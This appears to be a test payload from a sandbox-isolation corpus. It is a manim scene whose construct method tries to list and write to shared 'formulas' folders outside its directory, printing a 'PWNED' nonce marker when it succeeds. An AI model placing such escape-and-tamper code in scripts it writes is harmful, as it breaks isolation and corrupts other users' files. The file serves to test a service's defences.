# ATTACK: tamper
# SUCCESS: the shared formulas are written to, or their folder read
# ORACLE: generic, as for the other corpus
from manim import *

class S(Scene):
    def construct(self):
        import os, glob
        for p in ("../../formulas", "../formulas", "/shaperotator/formulas"):
            try: print("PWN" "ED-@NONCE@", os.listdir(p))
            except OSError as e: print(e)
            try: open(p + "/x.svg", "w").write("<svg/>"); print("PWN" "ED-@NONCE@")
            except OSError as e: print(e)
        self.add(Dot()); self.wait(0.1)
